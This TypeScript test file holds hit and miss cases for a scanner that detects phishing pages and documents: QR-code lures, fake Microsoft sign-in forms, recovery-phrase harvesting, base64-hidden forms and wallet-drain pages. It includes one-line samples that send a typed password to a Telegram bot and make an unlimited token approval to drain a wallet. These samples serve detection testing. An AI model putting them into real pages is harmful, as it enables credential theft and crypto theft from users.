// Web pages that take a password, a recovery phrase, a wallet.
import type { FileFacts } from '../../../src/file/facts.ts'
import { NO_OFFICE } from '../../../src/file/formats/office/facts.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { EMPTY_PAGE } from '../empty-facts.ts'
import type { FactCases } from './case.ts'

const page = (script: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
  html: { ...EMPTY_PAGE, passwordFields: 1, script: readScript(script, 'javascript').facts, ...given },
})
type Form = NonNullable<FileFacts['html']>['forms'][number]
const form = (action: string): Form => ({ action, method: 'post', passwordFields: 0, fields: 1 })
const signIn = (action: string): Form => ({ ...form(action), passwordFields: 1 })
const phrasePage = (action: string): Partial<FileFacts> =>
  page('', { text: 'Enter your 12-word Secret Recovery Phrase', forms: [form(action)] })
const DRAIN =
  "await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender + 'f'.repeat(64) }] })"
const BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + pw.value)'

const scanned = (text: string, code: string): Partial<FileFacts> => ({
  office: { ...NO_OFFICE, container: 'ooxml', text, qrCodes: [code] },
})

export const PAGES: FactCases = {
  document_asks_to_scan_code: {
    hits: {
      'a mailbox that expires': scanned(
        'Your mailbox password expires today. Scan the QR code with your phone to keep it.',
        'https://secure-mail-9.example/q?e=a@b.example',
      ),
      'pay, in German': scanned(
        'Ihre Gehaltsabrechnung ist da. Bitte scannen Sie den QR-Code mit Ihrem Telefon.',
        'https://hr-portal.example/x',
      ),
      'an account, in Japanese': scanned(
        'アカウントの確認のため、QRコードをスキャンしてください。',
        'http://203.0.113.7/a',
      ),
      'on a page': {
        html: {
          ...EMPTY_PAGE,
          passwordFields: 1,
          text: 'Verify: scan the QR code',
          qrCodes: ['https://a.example-pages.example/'],
        },
      },
    },
    misses: {
      'the site is named': scanned(
        'Scan the QR code to sign in to Example Bank, or go to examplebank.example.',
        'https://www.examplebank.example/login',
      ),
      'no account is spoken of': scanned('Scan the QR code to see the menu.', 'https://menu.example/1'),
      'the key of an authenticator': scanned(
        'Scan the QR code with your authenticator to set up two-factor sign-in.',
        'otpauth://totp/a?secret=JBSWY3DPEHPK3PXP',
      ),
      'a guide': scanned(
        `Scan the QR code to reset the password. ${'Then read on. '.repeat(300)}`,
        'https://x.example/',
      ),
      'a payment slip': scanned('Scannen Sie den QR-Code mit Ihrer Bank-App.', 'BCD\n002\n1\nSCT\n'),
    },
  },
  page_hands_password_to_bot: {
    hits: { 'a form and a bot': page(BOT) },
    misses: {
      'a bot without a password': page(BOT, { passwordFields: 0 }),
      'a password for its own server': page('fetch("/login", { method: "POST", body: data })'),
    },
  },
  page_asks_for_recovery_phrase: {
    hits: { 'posted elsewhere': phrasePage('https://restore.example/save.php') },
    misses: {
      'a wallet, within itself': phrasePage('/restore'),
      'a sign-in elsewhere': page('', { text: 'Sign in', forms: [form('https://sso.example/login')] }),
    },
  },
  page_poses_as_sign_in: {
    hits: {
      'pictures of the service': page('', {
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://forms.example/a')],
      }),
      'made out to its reader': page('', {
        title: 'SharePoint',
        filledAddress: 'kim@customer.example',
        forms: [signIn('https://forms.example/a')],
      }),
      'a bare address': page('', { forms: [signIn('http://203.0.113.8/post')] }),
      'a picture that asks': page('', { kind: 'svg', forms: [signIn('https://forms.example/a')] }),
    },
    misses: {
      'a saved page of the service': page('', {
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://login.microsoftonline.com/common/login')],
      }),
      'a router': page('', { forms: [signIn('http://192.168.1.1/login.cgi')] }),
      'a page that tells its own address': page('', {
        ownAddress: 'https://portal.example/',
        linkHosts: ['aadcdn.msauth.net'],
        forms: [signIn('https://sso.example/a')],
      }),
      'an account of another service': page('', { title: 'Shop', forms: [signIn('https://shop.example/session')] }),
    },
  },
  page_hides_its_sign_in: {
    hits: { 'out of base64': { ...page('', { forms: [signIn('https://collect.example/p')] }), relation: 'decoded' } },
    misses: {
      'in the open': page('', { forms: [signIn('https://collect.example/p')] }),
      'a form of its own page': { ...page('', { forms: [signIn('/session')] }), relation: 'decoded' },
    },
  },
  page_drains_wallet: {
    hits: { 'a right for a gift': page(DRAIN, { title: 'Claim your airdrop' }) },
    misses: {
      'an exchange': page(DRAIN, { title: 'Swap tokens' }),
      'a gift for nothing': page('connect()', { title: 'Claim your airdrop' }),
    },
  },
}
